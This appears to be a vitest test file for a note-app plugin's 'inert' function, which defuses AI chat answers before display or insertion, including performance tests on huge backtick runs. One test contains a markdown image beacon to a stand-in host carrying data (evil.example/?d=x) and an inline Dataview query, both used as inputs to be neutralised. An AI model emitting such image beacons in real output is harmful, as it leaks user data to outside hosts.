import { describe, expect, it } from "vitest";

import formats from "../../../schema/plugin_formats.json";
import table from "../../../tests/vault/data/inert_cases.json";
import { inert } from "../../src/ask/outside-text";

// The cases are the sidecar's too (tests/vault/test_inert.py reads the same table): the answer the
// panel draws or Insert puts into a note is inert exactly as the chat note holds it.
const MARK = formats.inert.mark;
const shown = (text: string): string => text.split(MARK).join("").replace(/(`{3,}|~{3,})text /g, "$1");
const asWritten = (text: string): string =>
	text.replace(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g, "\uFFFD").replace(/\r\n?/g, "\n");
// Unclosed runs of backticks of different lengths, each run its own length: before, a code-span
// pattern backtracked over every run (80 KB took 3.5 s, a megabyte minutes, the app frozen).
const unclosedRuns = (longest: number): string =>
	Array.from({ length: longest }, (_, n) => "`".repeat(n + 1)).join(" a ");

describe("inert", () => {
	describe("gives the sidecar's output for each case of the shared table", () => {
		it.each(table.cases)("$name", ({ text, inert: expected }) => {
			expect(inert(text)).toBe(expected);
		});
	});

	it("changes how no case reads: only word joiners, a query fence's language and line ends", () => {
		for (const { text } of table.cases) expect(shown(inert(text))).toBe(shown(asWritten(text)));
	});

	it("is idempotent on every case", () => {
		for (const { text } of table.cases) expect(inert(inert(text))).toBe(inert(text));
	});

	// No timed assertion: a pass that backtracks would run past the test's timeout.
	it("reads a megabyte of unclosed backtick runs of different lengths in one pass", () => {
		const text = unclosedRuns(1400);
		expect(text.length).toBeGreaterThan(950_000);
		expect(inert(text)).toBe(text);
		const image = `${unclosedRuns(400)} ![i](https://evil.example/?d=x)`;
		expect(inert(image)).toBe(image.replace("![i]", `!${MARK}[i]`));
	});

	it("reads long runs of backticks and spaces before an inline query once", () => {
		const text = `${`${"`".repeat(100_000)} x `.repeat(2)}\`${" ".repeat(100_000)}$= dv.pages()`;
		expect(inert(text)).toBe(`${text.slice(0, -"$= dv.pages()".length)}${MARK}$= dv.pages()`);
	});
});
